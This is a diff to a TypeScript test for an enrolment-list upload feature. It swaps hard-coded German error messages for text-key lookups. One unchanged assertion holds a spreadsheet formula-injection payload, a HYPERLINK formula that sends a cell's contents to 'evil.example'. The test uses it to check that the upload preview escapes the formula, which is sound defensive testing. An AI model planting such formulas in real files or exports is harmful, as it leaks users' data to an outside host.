@@ -8,6 +8,7 @@ import { makeMunicipality, makeUser } from '../../../test/support/builders';
 import { makeCohort } from '../../../test/support/cohorts';
 import { enrolmentImports, enrolments } from './table';
 import { users } from '../accounts/table';
+import { text } from '../../../test/support/texts';
 
 const fixture = (name: string) => fs.readFileSync(path.join(__dirname, '../../../test/fixtures/lists', name));
 const EMAILS = ['juergen.muessig@import.example', 'zoe.oersted@import.example', 'hannelore.kraemer@import.example'];
@@ -55,7 +56,7 @@ describe('uploading a list', () => {
     expect(preview.text).toContain('Müßig, Jürgen');
     expect(preview.text).toContain('Ørsted-Weiß, Zoë');
     expect(preview.text).toContain('Grundschule „Am Anger“');
-    expect(preview.text).toContain('E-Mail-Adresse fehlt.');
+    expect(preview.text).toContain(text('enrolment.row.emailMissing'));
     expect(preview.text).toContain('Unbekannter Sektor „Polizei“');
     expect(preview.text).toContain('Doppelt in der Datei (dieselbe E-Mail-Adresse wie Zeile 2).');
     expect(preview.text).toContain('=HYPERLINK(&#34;http://evil.example/?d=&#34;&amp;A1;&#34;Klick&#34;)');
@@ -94,7 +95,7 @@ describe('uploading a list', () => {
     const preview = await agent.get(second.headers.location!);
     expect(preview.text).toContain('0 von 6 Zeilen können übernommen werden.');
     expect(preview.text.match(/Bereits angemeldet/g)!.length).toBeGreaterThanOrEqual(3);
-    expect(preview.text).toContain('Keine Zeile kann übernommen werden.');
+    expect(preview.text).toContain(text('enrolment.nothingToImport'));
     await agent.post(second.headers.location!).type('form').send({ _csrf: token });
     expect(await db.select().from(enrolments).where(eq(enrolments.cohortId, c.id))).toHaveLength(3);
     expect(await db.select().from(users).where(inArray(users.email, EMAILS))).toHaveLength(3);
@@ -174,11 +175,11 @@ describe('uploading a list', () => {
       Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n', 'latin1'),
     );
     expect(pdf.status).toBe(422);
-    expect(pdf.text).toContain('Bitte laden Sie eine CSV- oder XLSX-Datei hoch.');
+    expect(pdf.text).toContain(text('enrolment.msg.fileKind'));
     const png = await upload('liste.xlsx', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0]));
     expect(png.status).toBe(422);
     const brokenZip = await upload('liste.xlsx', Buffer.from('PK\x03\x04 kaputt', 'latin1'));
-    expect(brokenZip.text).toContain('ließ sich nicht als Excel-Tabelle (XLSX) lesen');
+    expect(brokenZip.text).toContain(text('enrolment.msg.xlsxUnreadable'));
     const empty = await upload('leer.csv', Buffer.alloc(0));
     expect(empty.status).toBe(422);
     expect(empty.text).toContain('Die Datei ist leer.');
